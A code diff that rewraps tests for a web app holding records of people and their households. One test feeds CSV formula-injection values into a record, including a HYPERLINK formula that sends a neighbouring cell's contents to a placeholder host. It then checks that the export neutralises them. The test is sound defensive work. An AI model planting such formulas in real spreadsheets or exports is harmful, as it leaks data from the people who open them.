@@ -77,8 +77,9 @@ def test_counselors_and_speakers_have_no_access(client, auth, make_user, add_per
 
 def test_bad_input_gets_clear_messages_and_keeps_what_was_typed(app, client, auth, make_user):
     auth.login(make_user("coordinator"))
-    data = dict(FULL_RECORD, legal_name="", email="not-an-email", arrival_date="2999-01-01", phone="call me",
-                consent_date="")
+    data = dict(
+        FULL_RECORD, legal_name="", email="not-an-email", arrival_date="2999-01-01", phone="call me", consent_date=""
+    )
     response = client.post("/people/new", data=data)
     page = response.data.decode()
     assert response.status_code == 200
@@ -105,8 +106,11 @@ def test_editing_keeps_the_household_and_records_changes(app, client, auth, make
     person_id = int(location.rstrip("/").split("/")[-1])
     form = client.get(f"/people/{person_id}/edit").data.decode()
     assert 'value="Pablo Montoya"' in form
-    data = dict(FULL_RECORD, current_city="Anthony", **{"household-1-name": "Ana Montoya",
-                                                        "household-1-relationship": "sibling"})
+    data = dict(
+        FULL_RECORD,
+        current_city="Anthony",
+        **{"household-1-name": "Ana Montoya", "household-1-relationship": "sibling"},
+    )
     client.post(f"/people/{person_id}/edit", data=data)
     with app.app_context():
         person = db.session.get(Person, person_id)
@@ -157,8 +161,12 @@ def test_the_list_runs_the_same_number_of_queries_for_more_people(client, auth, 
 
 def test_exported_cells_cannot_run_as_formulas(client, auth, make_user, add_person):
     mine = make_user("coordinator")
-    add_person([mine.id], legal_name="Formula Person", alias="=HYPERLINK(\"https://x/?\"&B2,\"open\")",
-               current_city="+1 then @SUM(A1)")
+    add_person(
+        [mine.id],
+        legal_name="Formula Person",
+        alias='=HYPERLINK("https://x/?"&B2,"open")',
+        current_city="+1 then @SUM(A1)",
+    )
     auth.login(mine)
     text = client.get("/people/export.csv").data.decode()
     assert "'=HYPERLINK" in text and "'+1 then" in text
